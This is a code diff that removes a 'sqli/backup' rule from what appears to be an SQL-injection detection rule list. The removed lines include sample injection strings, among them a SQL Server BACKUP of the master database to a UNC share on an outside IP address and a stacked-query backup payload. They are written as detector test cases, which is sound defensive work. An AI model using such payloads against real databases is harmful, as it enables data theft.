@@ -206,21 +206,6 @@ const marks: Rule[] = [
       benign: ['union selection', 'select union'],
     },
   ),
-  // SQL Server writes the backup where it is told, on a host of the sender's too.
-  pattern(
-    'sqli/backup',
-    /\bbackup\s{1,4}(?:database|log)\s{1,4}[\w.[\]"']{1,64}\s{1,4}to\s{1,4}(?:disks?|tape|url)\s{0,2}=\s{0,2}n?['"]/,
-    {
-      score: 5,
-      quotable: true,
-      chars: CHAR.apostrophe | CHAR.quote,
-      attacks: [
-        "BACKUP database master to disks='\\\\203.0.113.9\\a\\b.dat'",
-        "1;backup log x to disk = N'c:\\a'",
-      ],
-      benign: ['backup database to disk', 'Backup log of x to disk'],
-    },
-  ),
   pattern(
     'sqli/schema-name',
     /^\s{0,4}(?:information_schema(?:\.\w{1,24})?|pg_catalog|msdb|northwind|tempdb|sqlite_master|mysql\.\w{1,16}|(?:schema|db)_name\s{0,4}\(\)?|sysobjects|msysaces|msys(?:access)?objects)\s{0,4}$/,
